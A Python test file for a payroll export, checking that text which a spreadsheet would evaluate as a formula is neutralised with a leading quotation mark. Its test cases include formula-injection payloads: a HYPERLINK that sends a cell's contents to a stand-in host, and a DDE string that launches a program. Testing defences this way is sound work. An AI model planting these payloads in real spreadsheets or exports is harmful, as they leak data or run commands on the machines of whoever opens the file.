"""Text that a spreadsheet would calculate, as text; every other text, and every number, as it was."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from orchestration.ledger.payroll import for_spreadsheets
from orchestration.spreadsheets import as_text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('=HYPERLINK("http://x/?"&A1,"pay")', '\'=HYPERLINK("http://x/?"&A1,"pay")'),
        ("-2+3", "'-2+3"),
        ("+1", "'+1"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1", "'\t'=1"),
        ("\tplain", "'\tplain"),
        ("\r=1", "'\r'=1"),
        ("\n=1", "'\n'=1"),
        ("  =1", "'  =1"),
        ("\u00a0\u3000=1", "'\u00a0\u3000=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Bob;=1+1", "Bob;'=1+1"),
        ("Bob;x; @A1", "Bob;x;' @A1"),
        ("Bob\r\n-1", "Bob\r\n'-1"),
        ("Ann O'Neill-Smith + 1 = @home", "Ann O'Neill-Smith + 1 = @home"),
        ("'=1", "'=1"),
        ("Müller; Söhne", "Müller; Söhne"),
        ("", ""),
        (None, None),
    ],
)
def test_text_that_would_be_a_formula_gets_a_quotation_mark(text: str | None, expected: str | None) -> None:
    assert duckdb.execute(f"select {as_text('$1::text')}", [text]).fetchone() == (expected,)


def test_a_payroll_files_texts_are_no_formulas_and_its_negative_amounts_are_numbers(tmp_path: Path) -> None:
    duckdb.execute(
        "create or replace temp table payroll as select '-7' as worker_id, '@SUM(1)' as worker_name,"
        " 'EUR' as payroll_currency, -12.30::decimal(18, 2) as payroll_amount, 2 as lines"
    )
    duckdb.execute(f"copy ({for_spreadsheets('from payroll')}) to '{tmp_path}/payroll.csv' (format csv, header)")
    with (tmp_path / "payroll.csv").open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert (row["worker_id"], row["worker_name"]) == ("'-7", "'@SUM(1)")
    assert Decimal(row["payroll_amount"]) == Decimal("-12.30")
